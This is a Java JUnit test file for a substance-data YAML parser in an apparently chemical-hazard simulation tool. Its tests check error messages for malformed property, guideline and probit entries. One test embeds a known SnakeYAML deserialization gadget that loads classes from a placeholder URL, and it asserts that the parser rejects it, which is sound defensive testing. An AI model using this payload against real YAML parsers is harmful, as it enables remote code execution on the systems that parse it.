package org.cbrnsim.hazard.substance;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

/** A malformed substance file gives one clear error naming the file, the substance and the field. */
class SubstanceFileErrorsTest {

    /** A minimal valid file with one substance; each test breaks one thing in it. */
    private static final String VALID = """
            format: 1
            sources:
              S2: "Perry's Table 2-8"
            substances:
              - id: testium
                name: Testium
                aliases: [tx]
                cas: 7782-50-5
                molar_mass_g_per_mol: {value: 70.906, source: "S18 [V]"}
                normal_boiling_point_k: {value: 239.11, source: "S14 [V]"}
                liquid_density: {missing: "not measured"}
                vapour_pressure:
                  - label: DIPPR 101
                    equation: dippr-101
                    coefficients: {C1: 71.334, C2: -3855, C3: -8.5171, C4: 1.2378e-2, C5: 1}
                    valid_k: [172.12, 417.15]
                    source: "S2 [V]"
                heat_of_vaporisation: {missing: "not measured"}
                liquid_heat_capacity: {missing: "not measured"}
                guidelines:
                  - system: AEGL
                    unit: ppm
                    tier-1: {values: {10 min: NR, 30 min: NR, 1 h: NR, 4 h: NR, 8 h: NR}, source: "x [M]"}
                    tier-2: {values: {10 min: 2.8, 30 min: 2.8, 1 h: 2.0, 4 h: 1.0, 8 h: 0.71}, source: "x [S]"}
                    tier-3: {values: {10 min: missing, 30 min: 28, 1 h: 20, 4 h: 10, 8 h: 7.1}, source: "x [S]"}
                probits:
                  - {set: Lees, a: -8.29, b: 0.92, n: 2, concentration_unit: ppm, time_unit: min, source: "x [V]"}
            """;

    private static String errorFor(String yaml) {
        return assertThrows(IllegalArgumentException.class, () -> SubstanceLibrary.parse(yaml, "test.yaml"))
                .getMessage();
    }

    private static String broken(String find, String replacement) {
        assertTrue(VALID.contains(find), "test template lacks " + find);
        return VALID.replace(find, replacement);
    }

    @Test
    void theTemplateIsValid() {
        SubstanceLibrary library = SubstanceLibrary.parse(VALID, "test.yaml");
        Substance testium = library.require("TX");
        assertEquals(0.070906, testium.molarMassKgPerMol(), 1e-12);
        assertEquals(GuidelineValue.NOT_RECOMMENDED, testium.guidelines().preferred().orElseThrow()
                .value(1, GuidelineDuration.HOUR_1));
        assertEquals(GuidelineValue.MISSING, testium.guidelines().preferred().orElseThrow()
                .value(3, GuidelineDuration.MIN_10));
    }

    @Test
    void textWhereANumberBelongs() {
        assertEquals("test.yaml: substance \"testium\", field \"molar_mass_g_per_mol.value\": expected a number,"
                + " got \"heavy\"", errorFor(broken("value: 70.906", "value: heavy")));
    }

    @Test
    void aNumberWithoutSource() {
        assertEquals("test.yaml: substance \"testium\", field \"normal_boiling_point_k.source\": is missing",
                errorFor(broken("{value: 239.11, source: \"S14 [V]\"}", "{value: 239.11}")));
    }

    @Test
    void anUnknownEquation() {
        assertEquals("test.yaml: substance \"testium\", field \"vapour_pressure[0].equation\": unknown equation"
                + " \"dipr-101\"; known: antoine, dippr-101, dippr-105, dippr-106, dippr-100, dippr-114, wagner,"
                + " ppds-12, ppds-116, table", errorFor(broken("equation: dippr-101", "equation: dipr-101")));
    }

    private static final String CP_MISSING = "liquid_heat_capacity: {missing: \"not measured\"}";

    private static String withHeatCapacityTable(String points) {
        return broken(CP_MISSING, """
                liquid_heat_capacity:
                      - label: VDI table
                        equation: table
                        points: %s
                        source: "S17 [V]"
                """.formatted(points).stripTrailing());
    }

    @Test
    void aTableIsValidFromItsFirstToItsLastPoint() {
        Correlation table = SubstanceLibrary.parse(withHeatCapacityTable("[[239.17, 940], [267, 970], [296, 1000]]"),
                "test.yaml").entry("testium").orElseThrow().property(SubstanceProperty.LIQUID_HEAT_CAPACITY).sets()
                .get(0);
        assertEquals(239.17, table.minTemperatureK());
        assertEquals(296.0, table.maxTemperatureK());
        assertEquals(955.0, table.at((239.17 + 267) / 2), 1e-9);
    }

    @Test
    void aTableWithAStatedRange() {
        String message = errorFor(withHeatCapacityTable("[[239.17, 940], [296, 1000]]\n        valid_k: [200, 300]"));
        assertTrue(message.startsWith("test.yaml: substance \"testium\", field \"liquid_heat_capacity[0].valid_k\":"
                + " unknown key; expected one of [equation, label, note, points, source]"), message);
    }

    @Test
    void aTablePointWithoutItsValue() {
        assertEquals("test.yaml: substance \"testium\", field \"liquid_heat_capacity[0].points[1]\": expected a point"
                + " [T in K, value], got a list", errorFor(withHeatCapacityTable("[[239.17, 940], [296]]")));
    }

    @Test
    void aTableOutOfOrder() {
        assertEquals("test.yaml: substance \"testium\", field \"liquid_heat_capacity[0].points\": table temperatures"
                + " must increase strictly, got 296.0 K then 267.0 K",
                errorFor(withHeatCapacityTable("[[239.17, 940], [296, 1000], [267, 970]]")));
    }

    @Test
    void aTableOfOnePoint() {
        assertEquals("test.yaml: substance \"testium\", field \"liquid_heat_capacity[0].points\": a table needs at"
                + " least two points [T, value], got 1", errorFor(withHeatCapacityTable("[[296, 1000]]")));
    }

    @Test
    void aMisspeltCoefficient() {
        String message = errorFor(broken("{C1: 71.334,", "{c1: 71.334,"));
        assertTrue(message.startsWith("test.yaml: substance \"testium\", field \"vapour_pressure[0].coefficients.c1\":"
                + " unknown key; expected one of [C1, C2, C3, C4, C5]"), message);
    }

    @Test
    void aMissingCoefficient() {
        assertEquals("test.yaml: substance \"testium\", field \"vapour_pressure[0].coefficients.C5\": is missing",
                errorFor(broken(", C5: 1}", "}")));
    }

    @Test
    void anInvertedRange() {
        String message = errorFor(broken("valid_k: [172.12, 417.15]", "valid_k: [417.15, 172.12]"));
        assertTrue(message.startsWith("test.yaml: substance \"testium\", field \"vapour_pressure[0].valid_k\":"
                + " expected [Tmin, Tmax] in K"), message);
    }

    @Test
    void zeroForNotRecommended() {
        assertEquals("test.yaml: substance \"testium\", field \"guidelines[0].tier-1.values.1 h\": must be > 0,"
                + " got 0 (write NR when the tier is not recommended)", errorFor(broken("1 h: NR", "1 h: 0")));
    }

    @Test
    void aMissingDuration() {
        assertEquals("test.yaml: substance \"testium\", field \"guidelines[0].tier-2.values.8 h\": is missing",
                errorFor(broken(", 8 h: 0.71}", "}")));
    }

    @Test
    void aWrongCasCheckDigit() {
        assertEquals("test.yaml: substance \"testium\", field \"cas\": check digit of \"7782-50-4\" is wrong"
                + " (should be 5)", errorFor(broken("cas: 7782-50-5", "cas: 7782-50-4")));
    }

    @Test
    void aPropertyWithNeitherSetsNorReason() {
        assertEquals("test.yaml: substance \"testium\", field \"liquid_density\": give at least one coefficient set,"
                + " or {missing: \"why\"}", errorFor(broken("liquid_density: {missing: \"not measured\"}",
                "liquid_density: []")));
    }

    @Test
    void aProbitInSeconds() {
        assertEquals("test.yaml: substance \"testium\", field \"probits[0].time_unit\": probits take t in min,"
                + " got \"s\"", errorFor(broken("time_unit: min", "time_unit: s")));
    }

    @Test
    void aSubstanceWithoutId() {
        assertEquals("test.yaml: field \"substances[0].id\": is missing", errorFor(broken("  - id: testium\n", "  -\n")));
    }

    @Test
    void anAliasUsedTwice() {
        String twice = VALID + VALID.substring(VALID.indexOf("  - id: testium")).replace("id: testium", "id: other");
        assertEquals("test.yaml: field \"substances[1]\": the id or alias \"tx\" is used twice", errorFor(twice));
    }

    @Test
    void aDuplicateKey() {
        String message = errorFor(broken("    name: Testium\n", "    name: Testium\n    name: Again\n"));
        assertTrue(message.startsWith("test.yaml: not valid YAML:") && message.contains("name"), message);
    }

    @Test
    void arbitraryJavaTypesAreNotConstructed() {
        String message = errorFor(broken("    name: Testium\n",
                "    name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n"));
        assertTrue(message.startsWith("test.yaml: not valid YAML:"), message);
    }

    @Test
    void anUnknownTopLevelKey() {
        assertEquals("test.yaml: field \"substance\": unknown key; expected one of [format, sources, substances]",
                errorFor(VALID + "substance: []\n"));
    }
}
